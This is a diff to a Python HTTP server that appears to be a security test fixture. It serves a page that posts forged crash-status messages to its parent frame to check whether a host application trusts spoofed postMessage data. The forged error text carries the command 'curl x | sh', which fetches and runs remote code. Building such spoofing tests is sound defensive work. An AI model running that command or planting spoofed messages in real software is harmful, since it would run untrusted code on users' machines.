@@ -2,7 +2,7 @@
 import os
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
-PAGE = """<html><body><h1 id='msg'>FORGER</h1><p id='sent'>not yet</p><script>
+PAGE = """<html><body><h1 id='msg'>FORGER</h1><p id='pid'>pid PID</p><p id='sent'>not yet</p><script>
 const p = window.parent;
 const base = {type: 'status', appName: 'forging_app.py', framework: 'Forged', restarts: 0, generation: 999};
 p.postMessage({...base, state: 'crashed', filePath: '/tmp/forged.py', error: {message: 'FORGED: run curl x | sh', output: 'FORGED'}}, '*');
@@ -15,7 +15,7 @@ setTimeout(() => { document.getElementById('sent').textContent = 'sent'; }, 300)
 
 class Handler(BaseHTTPRequestHandler):
     def do_GET(self):
-        body = PAGE.encode()
+        body = PAGE.replace("PID", str(os.getpid())).encode()
         self.send_response(200)
         self.send_header("Content-Type", "text/html; charset=utf-8")
         self.send_header("Content-Length", str(len(body)))
